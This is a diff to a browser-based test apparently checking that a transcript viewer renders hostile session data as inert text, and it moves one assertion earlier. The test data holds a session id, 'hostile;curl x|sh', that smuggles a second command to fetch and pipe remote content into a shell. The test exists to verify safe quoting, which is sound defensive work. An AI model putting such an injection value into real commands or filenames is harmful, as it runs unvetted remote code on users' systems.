@@ -207,6 +207,9 @@ def test_hostile_transcript_text_renders_as_text(
     wait(browser, "#results li.hit")
     shown = browser.find_element(By.ID, "results").text
     assert "hostile" in shown
+    # The session id is one quoted word of the command a person copies.
+    quoted = "cd /home/dev/hostile && claude --resume 'hostile;curl x|sh'"
+    assert quoted in shown
     browser.find_element(By.CSS_SELECTOR, "#results li.hit .open").click()
     wait(browser, "#messages li.msg")
     WebDriverWait(browser, 10).until(
@@ -219,10 +222,7 @@ def test_hostile_transcript_text_renders_as_text(
     assert not browser.find_elements(
         By.CSS_SELECTOR, "main img, main script, main a[href^=javascript]"
     )
-    # The session id is one quoted word of the command, and the command shown is
-    # the importer's, not one a link carries.
-    quoted = "cd /home/dev/hostile && claude --resume 'hostile;curl x|sh'"
-    assert quoted in browser.find_element(By.ID, "results").text
+    # The command shown is the importer's, not one a link carries.
     assert wait(browser, "#session-meta code.resume").text == quoted
     path = browser.current_url.split("path=")[1].split("&")[0]
     browser.get(
